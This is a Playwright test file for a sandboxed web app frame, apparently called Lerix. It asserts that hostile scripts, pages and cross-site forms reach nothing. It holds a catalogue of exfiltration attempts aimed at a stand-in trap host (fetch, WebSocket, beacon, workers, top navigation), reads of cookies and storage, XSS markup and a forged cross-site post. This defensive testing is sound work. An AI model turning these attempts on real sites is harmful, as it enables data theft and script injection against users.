"""What other sites, other windows and hostile pages of a Mac can do to a browser on another device: nothing."""

from __future__ import annotations

import re

import httpx
from playwright.sync_api import expect

from tests.browser.hostile import HTMX, LINKS, TAGS, Trap
from tests.browser.remote.frame.conftest import Away, child, inside, shown
from tests.browser.remote.frame.double import Double, elsewhere
from tests.upstream import Upstream

PAGES = ("/app/", "/frame/")
#: What a script in the frame could try; each gives what it got, and TRAP stands for a server that must not hear of it.
TRIES = r"""async (trap) => {
  const url = `http://${trap}/`;
  const tries = {
    fetch: () => fetch(`${url}fetch`),
    own: () => Response.prototype.constructor && window.fetch.call(window, `${url}own`),
    replaced: () => { "use strict"; window.fetch = () => 1; },
    xhr: () => { const asked = new XMLHttpRequest(); asked.open("GET", `${url}xhr`); asked.send(); },
    socket: () => new WebSocket(`ws://${trap}/socket`),
    events: () => new EventSource(`${url}events`),
    transport: () => new WebTransport(`https://${trap}/transport`),
    peer: () => new RTCPeerConnection({ iceServers: [{ urls: `stun:${trap}` }] }),
    beacon: () => navigator.sendBeacon(`${url}beacon`, "x") || Promise.reject(),
    worker: () => new Worker(`${url}worker`),
    blobWorker: () => new Worker(URL.createObjectURL(new Blob(["fetch('" + url + "blob')"]))),
    module: () => import(`${url}module.js`),
    evaluated: () => eval("1"),
    made: () => new Function("return 1")(),
    markup: () => { document.createElement("div").innerHTML = "<img src=x onerror=alert(1)>"; },
    written: () => { document.write("<p>x"); },
    script: () => loaded(Object.assign(document.createElement("script"), { src: `${url}script.js` })),
    policy: () => trustedTypes.createPolicy("lerix-frame", { createHTML: (x) => x }),
    default: () => trustedTypes.createPolicy("default", { createHTML: (x) => x }),
    image: () => loaded(Object.assign(document.createElement("img"), { src: `${url}image` })),
    style: () => loaded(Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${url}style.css` })),
    audio: () => loaded(Object.assign(document.createElement("audio"), { src: `${url}audio`, preload: "auto" })),
    object: () => loaded(Object.assign(document.createElement("object"), { data: `${url}object` })),
    background: () => { document.body.style.backgroundImage = `url(${url}background)`; return Promise.reject(); },
    framed: () => nested(Object.assign(document.createElement("iframe"), { src: `${url}framed` })),
    blank: () => nested(document.createElement("iframe")),
    database: () => new Promise((yes, no) => {
      const opening = indexedDB.open("lerix-vault");
      opening.onsuccess = yes;
      opening.onerror = no;
    }),
    local: () => localStorage.length,
    session: () => sessionStorage.length,
    cookies: () => document.cookie,
    caches: () => caches.keys(),
    parentDocument: () => parent.document.title,
    parentStorage: () => parent.localStorage,
    parentName: () => parent.lerix ?? Promise.reject(),
    topper: () => { top.location = `${url}top`; return Promise.reject(); },
    message: () => { parent.postMessage({ kind: "open", url }, "*"); return Promise.reject(); },
    port: () => {
      const channel = new MessageChannel();
      parent.postMessage({ kind: "page" }, "*", [channel.port2]);
      return new Promise((yes, no) => { channel.port1.onmessage = yes; setTimeout(no, 300); });
    },
  };
  function loaded(element) {
    return new Promise((yes, no) => {
      element.onload = yes;
      element.onerror = no;
      setTimeout(no, 300);
      document.body.append(element);
    });
  }
  function nested(element) {
    document.body.append(element);
    const inner = element.contentWindow;
    const caught = [() => inner.fetch(`${url}nested`), () => new inner.XMLHttpRequest(), () => inner.document.title];
    return caught.some((each) => { try { each(); return true; } catch { return false; } }) ? 1 : Promise.reject();
  }
  // Playwright's own evaluation may do more than a page: from here on it is the page's.
  await new Promise((go) => setTimeout(go));
  const got = [];
  for (const [name, attempt] of Object.entries(tries)) {
    try {
      await Promise.race([attempt(), new Promise((_, no) => setTimeout(no, 1000))]);
      got.push(name);
    } catch {}
  }
  return got;
}"""

WAY = "(trap) => { const form = document.createElement('form'); setTimeout(() => { WAY; }); }"
#: Another site speaks to every frame that it can name.
SHOUT = """() => {
  for (let at = 0; at < frames.length; at++) frames[at].postMessage({ kind: "go", path: "/x/" }, "*");
}"""


def test_a_script_in_the_frame_reaches_nobody_and_nothing(away: Away) -> None:
    page = away.page()
    shown(page)
    before = len(away.double.asked)
    with Trap() as trap:
        assert child(page).evaluate(TRIES, trap.host) == []
        page.wait_for_timeout(300)
        assert trap.requests == []
    assert len(page.context.pages) == 1
    assert page.url == f"{away.double.url}/app/"
    assert [asked.path for asked in away.double.asked[before:] if not asked.path.startswith("/events/")] == []
    away.desk.problems.clear()


def test_a_frame_that_goes_somewhere_is_closed(away: Away) -> None:
    with Trap() as trap:
        page = away.page()
        for way in (
            "location = `http://${trap}/gone`",
            "location = location.origin + '/frame/?again'",
            "location = 'about:blank'",
            "location.reload()",
            "document.body.append(form); form.action = `http://${trap}/form`; form.submit()",
        ):
            page.goto(f"{away.double.url}/app/")
            shown(page)
            child(page).evaluate(WAY.replace("WAY", way), trap.host)
            expect(page.get_by_text("This page tried to leave Lerix, so it was closed.")).to_be_visible()
            expect(inside(page).locator("body")).to_have_count(0)
        assert trap.requests == []
    away.desk.problems.clear()


def test_a_page_that_the_mac_did_not_clean_runs_nothing(away: Away) -> None:
    """As if the Mac's own cleaning had failed: in a whole page, and in the pieces that htmx puts in."""
    with Trap() as trap:
        hostile = "\n".join([*TAGS, *HTMX, *LINKS]).replace("TRAP", trap.host)
        text = f'<div id="foreign" hx-ignore>{hostile}</div>'
        head = '<title>Hostile</title><meta name="htmx-config" content=\'{"extensions": "sse"}\'>'
        head += '<script src="/static/x/lerix/vendor/htmx/htmx.min.js"></script>'
        head += '<script src="/static/x/lerix/vault/store.js"></script><script>alert(1)</script>'
        start = '<button id="go" hx-get="/piece/" hx-target="#piece">Go</button><div hx-ignore><p id="piece"></p></div>'
        html = f"<!doctype html><html><head>{head}</head><body onload=alert(1)>{start}{text}</body></html>"
        piece = f'<hx-partial hx-target="#piece">{text}{hostile}</hx-partial>'
        away.double.answers["/hostile/"] = (200, {"content-type": "text/html"}, html.encode())
        away.double.answers["/piece/"] = (200, {"content-type": "text/html"}, piece.encode())
        page = away.page()
        page.on("dialog", lambda dialog: away.desk.problems.append(f"dialog: {dialog.message}"))
        page.goto(f"{away.double.url}/app/hostile/")
        frame = inside(page)
        expect(frame.locator("#foreign")).to_be_visible()
        frame.locator("#go").click()
        expect(frame.locator("#piece #foreign")).to_be_visible()
        page.wait_for_timeout(1200)
        assert trap.requests == []
        left = child(page).evaluate(
            """() => [...document.body.querySelectorAll("*")].flatMap((each) => [...each.attributes]
              .map(({name, value}) => [each.localName, name, value.slice(0, 80)]))
              .filter(([tag, name, value]) => /^on|^style$|^srcset$|^srcdoc$|^ping$|^formaction$/.test(name)
                || (/^(href|src)$/.test(name) && /^\\W*javascript/i.test(value)))"""
        )
        assert left == []
        names = "script, iframe, object, embed, link, meta, base, style"
        assert frame.locator(f"body :is({names})").count() == 0
    paths = [asked.path for asked in away.double.asked]
    assert not [path for path in paths if "chats" in path or "hx-get" in path]
    # What the policy stopped was said; nothing else was.
    said = [each for each in away.desk.problems if "Content Security Policy" not in each]
    away.desk.problems[:] = said


def test_no_other_site_shows_posts_to_or_speaks_to_these_pages(away: Away, serving: Double) -> None:
    url = serving.url
    html = f"""<title>Elsewhere</title><iframe src="{url}/app/"></iframe><iframe src="{url}/frame/"></iframe>
      <form id="form" action="{url}/app/chats/" method="post"><input name="text" value="stolen"></form>
      <a id="frame" href="{url}/frame/">x</a><a id="open" target="_blank" href="{url}/app/" rel="opener">x</a>"""
    with elsewhere(html.encode()) as site:
        page = away.desk.chromium.new_context().new_page()
        away.desk.contexts.append(page.context)
        page.goto(site)
        page.wait_for_timeout(700)
        assert [frame.locator("#place, #message").count() for frame in page.frames] == [0, 0, 0]
        with page.expect_popup() as waiting:
            page.locator("#open").click()
        opened = away.desk.watched(waiting.value)
        shown(opened)
        assert opened.evaluate("window.opener") is None
        asked = len(serving.asked)
        page.evaluate(SHOUT)
        page.locator("#frame").click()
        expect(page.get_by_text("This page is a part of another one.")).to_be_visible()
        page.go_back()
        with page.expect_navigation() as navigation:
            page.evaluate("document.getElementById('form').submit()")
        assert navigation.value.status in {403, 405}
        assert [each.path for each in serving.asked[asked:] if not each.path.startswith("/events/")] == []


def test_windows_that_speak_to_the_vault_or_the_frame_are_not_heard(away: Away, up: Upstream) -> None:
    page = away.page()
    shown(page)
    before = len(away.double.asked)
    speak = """(target) => {
      const { port1, port2 } = new MessageChannel();
      const heard = new Promise((resolve) => {
        port1.onmessage = () => resolve(true);
        setTimeout(resolve, 300, false);
      });
      for (const message of [{ kind: "here" }, { kind: "go", path: "/x/" }, "lerix"]) target.postMessage(message, "*");
      target.postMessage({ kind: "page", html: "<p>x", path: "/" }, "*", [port2]);
      port1.postMessage({ kind: "fetch", id: 1, method: "GET", path: "/x/", headers: [], body: null });
      return heard;
    }"""
    assert page.evaluate(f"() => ({speak})(window)") is False
    assert page.evaluate(f"() => ({speak})(frames[0])") is False
    assert child(page).evaluate(f"() => ({speak})(window.parent)") is False
    assert [asked.path for asked in away.double.asked[before:] if asked.path == "/x/"] == []
    expect(inside(page).get_by_role("textbox", name="Message")).to_be_visible()


def test_the_pages_have_the_headers_that_make_all_this_so(serving: Double) -> None:
    origin = serving.url
    with httpx.Client(base_url=origin, trust_env=False, timeout=60) as client:
        vault = client.get("/app/chats/x/").headers
        frame = client.get("/frame/").headers
        static = client.get(re.findall(r'src="(/static/[^"]+)"', client.get("/app/").text)[0]).headers
        assert client.get("/frame/", headers={"sec-fetch-dest": "document"}).status_code == 403
        assert client.get("/app/", headers={"sec-fetch-dest": "iframe"}).status_code == 403
        assert client.post("/app/").status_code in {403, 405}
        listed = [
            set(re.findall(r'modulepreload" href="/static/\w+/([^"]+)"', client.get(path).text)) for path in PAGES
        ]
    assert {"lerix/app/main.js", "lerix/app/outbox.js", "lerix/vault/channel.js", "lerix/vault/bell.js"} <= listed[0]
    assert {"lerix/frame/main.js", "lerix/frame/port.js", "lerix/frame/encode.js"} <= listed[1]
    policy = vault["content-security-policy"]
    assert f"connect-src ws{origin.removeprefix('http')}/relay/1/link {origin}/api/1/;" in policy
    assert f"frame-src {origin}/frame/;" in policy
    for rule in ("default-src 'none'", "frame-ancestors 'none'", "form-action 'none'", "trusted-types 'none'"):
        assert rule in policy
    assert vault["x-frame-options"] == "DENY"
    assert vault["cross-origin-opener-policy"] == "same-origin"
    assert vault["referrer-policy"] == "no-referrer"
    policy = frame["content-security-policy"]
    assert policy.startswith("sandbox allow-scripts allow-forms allow-modals; default-src 'none';")
    assert "allow-same-origin" not in policy
    for rule in ("connect-src 'none'", "frame-src 'none'", "worker-src 'none'", f"frame-ancestors {origin}"):
        assert rule in policy
    assert "'self'" not in policy
    assert static["cross-origin-resource-policy"] == "cross-origin"
    assert static["access-control-allow-origin"] == "*"
